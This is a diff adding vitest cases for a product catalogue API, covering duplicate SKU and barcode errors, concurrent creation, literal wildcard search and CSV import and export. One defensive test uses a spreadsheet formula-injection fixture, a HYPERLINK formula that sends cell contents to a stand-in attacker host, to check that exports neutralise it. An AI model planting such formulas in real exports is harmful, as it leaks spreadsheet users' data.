@@ -1,9 +1,11 @@
 import { gtinCheckDigit, type ImportReport, type Product, productLookupSchema, productSchema } from "@glide/contracts";
+import { parse } from "csv-parse/sync";
 import sharp from "sharp";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { z } from "zod";
-import { ADMIN_COOKIE } from "../../platform/auth.ts";
 import { as, createTestContext, signIn, type TestContext } from "../../test/harness.ts";
+import { ADMIN_COOKIE } from "../admin-auth/admin-auth.hooks.ts";
+import { cellText, csvCell, MISSING_SKU } from "./products.csv-format.ts";
 
 let ctx: TestContext;
 let admin: ReturnType<typeof as>;
@@ -82,22 +84,41 @@ describe("adding products", () => {
     expect(res.json().detail).toContain(field);
   });
 
-  it("refuses a SKU in use, whatever its case, naming the product", async () => {
+  it("refuses a SKU in use, whatever its case, naming the product by its name and SKU", async () => {
     const p = await create({ sku: "DUP-SKU-1", name: "Första" });
     const res = await admin.post("/api/v1/products/", { sku: "dup-sku-1", name: "Andra", price: 1 });
     expect(res.statusCode).toBe(409);
-    expect(res.json()).toEqual({
-      detail: `SKU dup-sku-1 is already used by "Första" (${p.id})`,
-      code: "duplicate_sku",
-    });
+    const detail = 'SKU dup-sku-1 is already used by "Första" (SKU DUP-SKU-1); choose another SKU';
+    expect(res.json()).toEqual({ detail, code: "duplicate_sku", errors: [{ path: "sku", message: detail }] });
+    expect(res.body).not.toContain(p.id);
+  });
+
+  it("names the product that won when two requests claim a SKU or barcode at once", async () => {
+    const code = ean("731000000099");
+    const results = await Promise.all(
+      Array.from({ length: 6 }, (_, i) =>
+        admin.post("/api/v1/products/", { sku: "RACE-1", name: `Racer ${i}`, price: 1, barcode: code }),
+      ),
+    );
+    const won = results.filter((r) => r.statusCode === 201);
+    expect(won).toHaveLength(1);
+    const winner = won[0]!.json().name as string;
+    for (const lost of results.filter((r) => r.statusCode !== 201)) {
+      expect(lost.statusCode).toBe(409);
+      expect(lost.json().code).toMatch(/^duplicate_(sku|barcode)$/);
+      expect(lost.json().detail).toContain(`"${winner}" (SKU RACE-1)`);
+    }
   });
 
   it("refuses a barcode in use, also in its UPC-A form, naming the product", async () => {
     await create({ name: "Amerikansk", barcode: "0036000291452" });
     const res = await admin.post("/api/v1/products/", { sku: sku(), name: "Kopia", price: 1, barcode: "036000291452" });
     expect(res.statusCode).toBe(409);
-    expect(res.json().detail).toMatch(/^Barcode 0036000291452 already belongs to "Amerikansk" \(SKU T-\d+-\w+\)$/);
+    expect(res.json().detail).toMatch(
+      /^Barcode 0036000291452 already belongs to "Amerikansk" \(SKU T-\d+-\w+\); remove it there first$/,
+    );
     expect(res.json().code).toBe("duplicate_barcode");
+    expect(res.json().errors).toEqual([{ path: "barcodes", message: res.json().detail }]);
   });
 });
 
@@ -128,6 +149,21 @@ describe("searching", () => {
 
   it("does not match barcodes by fragment", async () => {
     expect(await search("73112000")).toEqual([]);
+  });
+
+  it("matches % and _ literally, not as wildcards", async () => {
+    const percent = await create({ name: "Juice 100% apelsin" });
+    const thousand = await create({ name: "Juice 1000 ml" });
+    const underscore = await create({ name: "Etikett snake_case" });
+    const dash = await create({ name: "Etikett snake-case" });
+    const ids = async (q: string) => (await search(q)).map((p) => p.id);
+    expect(await ids("100%")).toContain(percent.id);
+    expect(await ids("100%")).not.toContain(thousand.id);
+    expect(await ids("e_c")).toEqual([underscore.id]);
+    expect(await ids("e_c")).not.toContain(dash.id);
+    const anyUnderscore = await search("_");
+    expect(anyUnderscore.map((p) => p.id)).toContain(underscore.id);
+    for (const p of anyUnderscore) expect(`${p.name} ${p.sku} ${p.brand ?? ""}`).toContain("_");
   });
 
   it("filters by category, sorts, pages and reports the total", async () => {
@@ -189,6 +225,16 @@ describe("editing and deleting", () => {
     });
     const cleared = await admin.put(`/api/v1/products/${p.id}`, { weight: null, age_limit: 18, is_active: false });
     expect(cleared.json()).toMatchObject({ weight: null, age_limit: 18, is_active: false });
+  });
+
+  it("accepts the product's own SKU sent back with an edit, in any case", async () => {
+    const p = await create({ sku: "OWN-SKU-1", name: "Före", barcode: ean("731200000011") });
+    const same = await admin.put(`/api/v1/products/${p.id}`, { sku: "OWN-SKU-1", name: "Efter", barcode: p.barcode });
+    expect(same.statusCode, same.body).toBe(200);
+    expect(same.json()).toMatchObject({ sku: "OWN-SKU-1", name: "Efter", barcodes: [ean("731200000011")] });
+    const recased = await admin.put(`/api/v1/products/${p.id}`, { sku: "own-sku-1" });
+    expect(recased.statusCode, recased.body).toBe(200);
+    expect(recased.json().sku).toBe("own-sku-1");
   });
 
   it("refuses to take another product's barcode and writes nothing", async () => {
@@ -403,6 +449,83 @@ describe("CSV import and export", () => {
       vat_rate: 12,
       barcodes: tricky.barcodes,
     });
+  });
+
+  it("re-imports an unchanged export of a product with barcodes as an update", async () => {
+    // An EAN-13, an EAN-8 and a weight label's item code: each is written back as the export shows it.
+    const ean8 = `7310001${gtinCheckDigit("7310001")}`;
+    const barcodes = [ean("731600000011"), ean8, ean("230888800000")];
+    const p = await create({ sku: "OFORAND-1", name: "Oförändrad", barcodes });
+    const exported = await admin.get("/api/v1/products/export?search=OFORAND-1");
+    const dry = await csvPost(exported.body);
+    expect(dry.json()).toMatchObject({ created: 0, updated: 1, rejected: 0 });
+    expect(dry.json().rows[0].errors).toEqual([]);
+    const applied = await csvPost(exported.body, "?dry_run=false");
+    expect(applied.json()).toMatchObject({ created: 0, updated: 1, rejected: 0 });
+    expect((await admin.get(`/api/v1/products/${p.id}`)).json().barcodes).toEqual(p.barcodes);
+  });
+
+  it("writes text that a spreadsheet would run as a formula with a leading quote, and reads it back", async () => {
+    const risky = {
+      sku: "-INJ-1",
+      name: '=HYPERLINK("https://evil.example/?d="&A1,"Klicka")',
+      description: "-5 % rea",
+      category: "@risk",
+      brand: "+46 Kaffe",
+    };
+    const p = await create(risky);
+    const quoted = await create({ sku: "INJ-2", name: "'=already quoted", brand: "'plain" });
+    const exported = await admin.get("/api/v1/products/export?search=INJ-");
+    const rows: Record<string, string>[] = parse(exported.body, { bom: true, columns: true });
+    const row = rows.find((r) => r.name?.includes("HYPERLINK"))!;
+    expect(row).toMatchObject({
+      sku: "'-INJ-1",
+      name: `'${risky.name}`,
+      description: "'-5 % rea",
+      category: "'@risk",
+      brand: "'+46 Kaffe",
+      price: "10",
+    });
+    expect(rows.find((r) => r.sku === "INJ-2")).toMatchObject({ name: "''=already quoted", brand: "'plain" });
+
+    await admin.put(`/api/v1/products/${p.id}`, { name: "Ändrad", description: null, brand: null });
+    const back = await csvPost(exported.body, "?dry_run=false");
+    expect(back.json()).toMatchObject({ created: 0, updated: 2, rejected: 0 });
+    expect((await admin.get(`/api/v1/products/${p.id}`)).json()).toMatchObject(risky);
+    expect((await admin.get(`/api/v1/products/${quoted.id}`)).json()).toMatchObject({
+      name: "'=already quoted",
+      brand: "'plain",
+    });
+  });
+
+  it("quotes only text cells: numbers, negative ones too, stay numbers", () => {
+    expect(csvCell(-5)).toBe("-5");
+    expect(csvCell(-0.25)).toBe("-0.25");
+    expect(csvCell(true)).toBe("true");
+    expect(csvCell(null)).toBe("");
+    expect(csvCell("-5")).toBe("'-5");
+    for (const text of ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''-1", "'x", "x=1", "", "plain"]) {
+      expect(cellText(csvCell(text))).toBe(text);
+    }
+    expect(csvCell("\t=1")).toBe("'\t=1");
+    expect(csvCell("x=1")).toBe("x=1");
+  });
+
+  it("rejects a row whose barcode another product has, naming that product", async () => {
+    const owner = await create({ sku: "AGARE-1", name: "Ägaren", barcode: ean("731600000021") });
+    const report: ImportReport = (
+      await csvPost(`sku,name,price,barcode\nINTRANG-1,Inkräktare,5,${owner.barcode}`)
+    ).json();
+    expect(report.rows[0]!.errors).toEqual([
+      `barcode: ${owner.barcode} already belongs to "Ägaren" (SKU AGARE-1); take it off this row or off that product`,
+    ]);
+  });
+
+  it("says once, with the fix, that a row has no SKU", async () => {
+    const report: ImportReport = (await csvPost("sku,name,price\n,Vara,10\n  ,Vara,abc")).json();
+    expect(report.rows[0]!.errors).toEqual([MISSING_SKU]);
+    expect(report.rows[1]!.errors).toEqual([MISSING_SKU, "price: Price must be a number"]);
+    expect(MISSING_SKU).toMatch(/^sku: .*Give the row a SKU/);
   });
 
   it("reads semicolon files with decimal commas, as Swedish spreadsheets write them", async () => {
